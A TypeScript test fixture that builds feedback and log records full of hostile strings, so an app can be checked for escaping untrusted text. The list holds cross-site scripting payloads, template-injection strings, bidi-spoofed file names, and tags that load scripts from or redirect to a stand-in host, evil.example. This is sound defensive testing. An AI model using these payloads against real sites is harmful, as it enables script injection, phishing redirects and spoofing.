import { atTime, feedbackRow, logRow } from '../../../packages/schema/test/fixture.ts'

/**
 * Texts that try to run a script, to end an attribute, to load something or to confuse the reader.
 */
export const hostileTexts = [
  '<script>document.title = "run"; alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
  '" autofocus onfocus="alert(1)" x="',
  '` onfocus=alert(1) autofocus x=`',
  'javascript:alert(1)',
  '</title></style></textarea></pre></bdi><svg onload=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '${alert(1)} {{constructor.constructor("alert(1)")()}} <%= alert(1) %>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;',
  '//evil.example/x.js',
  'https://evil.example/?a="><script src=//evil.example></script>',
  '\u202egnp.exe\u202c \u2066isolated\u2069 \u200binvisible\u200b \ufefftext\u00ad \u{e0041}',
  'tab\tline\nfeed\u0000nul\u0007bell\u001b[31mred\u2028separator',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>',
  '<form action=//evil.example><button>x</button></form><iframe src=//evil.example></iframe>',
]

/**
 * Joins the hostile texts in groups of `together`, so that a test that opens one page for each text
 * opens fewer pages.
 */
export function joinedTexts(together: number): string[] {
  const starts = hostileTexts.flatMap((_, index) => (index % together === 0 ? [index] : []))
  return starts.map((start) => hostileTexts.slice(start, start + together).join(' '))
}

const deviceTexts = [
  'os',
  'device_brand',
  'device_model',
  'android_version',
  'battery_state',
  'build_board',
  'bundle_name',
  'manufacturer',
  'version_name',
]

/**
 * Creates records in which every text that a client can choose is `text`, including the names of
 * unknown fields.
 */
export function hostileRecords(text: string, { time, device }: { time: string; device: string }) {
  const head = {
    bundle_identifier: text,
    device_uuid: device,
    unique_user_id: text,
    device: {
      ...Object.fromEntries(deviceTexts.map((name) => [name, text])),
      supported_abis: [text, text],
    },
    device_extra: { [text]: text, list: [text, { [text]: text }] },
    extra: { [text]: { [text]: text } },
  }
  return {
    feedback: feedbackRow({ ...head, ...atTime(time), text, email: text }),
    log: logRow({
      ...head,
      ...atTime(time),
      event: text,
      params: { [text]: text, deep: { text } },
    }),
  }
}
